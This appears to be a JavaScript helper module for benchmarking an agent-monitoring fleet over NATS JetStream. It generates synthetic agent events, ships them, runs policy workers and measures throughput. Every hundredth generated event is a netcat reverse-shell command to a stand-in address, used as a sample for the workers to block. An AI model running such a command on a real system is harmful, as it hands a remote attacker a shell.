// What the sections of the benchmark of a fleet share.

import { once } from "node:events";
import { createWriteStream } from "node:fs";
import { setTimeout as delay } from "node:timers/promises";
import { jetstreamManager } from "@nats-io/jetstream";
import { connect } from "@nats-io/transport-node";
import { BUILT_IN_RULES, says, start, succeed } from "../../test/chaos/fleet/commands.mjs";

/** @typedef {import("../../test/chaos/fleet/servers.mjs").Servers} Servers */
/** @typedef {{ events: number, slowEvents: number, workers: number, memoryEvents: number }} Sizes */
/** @typedef {{ servers: Servers, folder: string, sizes: Sizes, replicas: number }} Setting */
/** @typedef {{ what: string, found: string, goal?: string }} Row */

export const PARTITIONS = 16;
const AGENTS = 100;

/** Creates the streams. @param {Setting} setting */
export async function init({ servers, replicas }) {
  await succeed([
    "fleet",
    "init",
    "--server",
    servers.urls,
    "--replicas",
    String(replicas),
    "--events-bytes",
    "4294967296",
  ]);
}

/** An event; one in a hundred is blocked. @param {number} number */
export function line(number) {
  const agent = `agent-${(number * 7919) % AGENTS}`;
  const pid = 100 + (number % 1000);
  const event =
    number % 100 === 0
      ? { ToolExec: { pid, argv: ["/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"] } }
      : number % 3 === 0
        ? { FileAccess: { pid, path: `/home/dev/app/src/file${number % 5000}.ts`, write: false } }
        : number % 3 === 1
          ? { ToolExec: { pid, argv: ["/usr/bin/git", "commit", "-m", `change ${number}`] } }
          : { Egress: { pid, peer: `192.0.2.${number % 250}`, port: 443, domain: "example.com" } };
  return `${JSON.stringify({ identity: { agent, session: "s-1" }, id: `${number}`, event })}\n`;
}

/** Writes events to a file. @param {string} file @param {number} events @param {(number: number) => string} [lineOf] */
export async function writeEvents(file, events, lineOf = line) {
  const out = createWriteStream(file);
  for (let at = 0; at < events; ) {
    let text = "";
    for (const end = Math.min(events, at + 5_000); at < end; at++) text += lineOf(at);
    if (!out.write(text)) await once(out, "drain");
  }
  out.end();
  await once(out, "close");
}

/** Ships a file, and returns the seconds that it took. @param {Setting} setting @param {string} file */
export async function ship({ servers, folder }, file) {
  const { createReadStream } = await import("node:fs");
  const begin = performance.now();
  const shipper = start(["ship", "--server", servers.urls, "--spool", `${folder}/spool`, "--name", "bench"]);
  createReadStream(file, { highWaterMark: 1 << 20 }).pipe(shipper.child.stdin);
  if ((await shipper.ended) !== 0) throw new Error(shipper.said);
  return (performance.now() - begin) / 1000;
}

/** Starts workers that judge nothing yet: they wait until their partitions have events. @param {Setting} setting @param {number} count @param {Record<string, string>} [env] @param {string[]} [policy] flags */
export async function startWorkers({ servers }, count, env = {}, policy = BUILT_IN_RULES) {
  const workers = Array.from({ length: count }, (_, at) =>
    start(["worker", "--server", servers.urls, "--name", `w${at}`, ...policy], env),
  );
  for (const worker of workers) await says(worker, "judging");
  return workers;
}

/** Ends workers. @param {ReturnType<typeof start>[]} workers */
export async function end(workers) {
  for (const { child } of workers) child.kill("SIGTERM");
  await Promise.all(workers.map(({ ended }) => ended));
}

/** Resolves when the stream of events has its first message since the call. @param {Setting} setting */
export async function begun(setting) {
  await withEvents(setting, async (info) => {
    const before = (await info()).last_seq;
    while ((await info()).last_seq === before) await delay(5);
  });
}

/** Seconds until the stream of events is empty. @param {Setting} setting */
export async function drained(setting) {
  const begin = performance.now();
  await withEvents(setting, async (info) => {
    while ((await info()).messages > 0) await delay(20);
  });
  return (performance.now() - begin) / 1000;
}

/** @param {Setting} setting @param {(info: () => Promise<import("@nats-io/jetstream").StreamState>) => Promise<void>} work */
async function withEvents({ servers }, work) {
  const connection = await connect({ servers: servers.urls.split(",") });
  try {
    const manager = await jetstreamManager(connection, { timeout: 60_000 });
    await work(async () => (await manager.streams.info("SENTRY_EVENTS")).state);
  } finally {
    await connection.close();
  }
}

/** @param {number} perSecond */
export function rate(perSecond) {
  return `${Math.round(perSecond).toLocaleString("en")} events/s`;
}
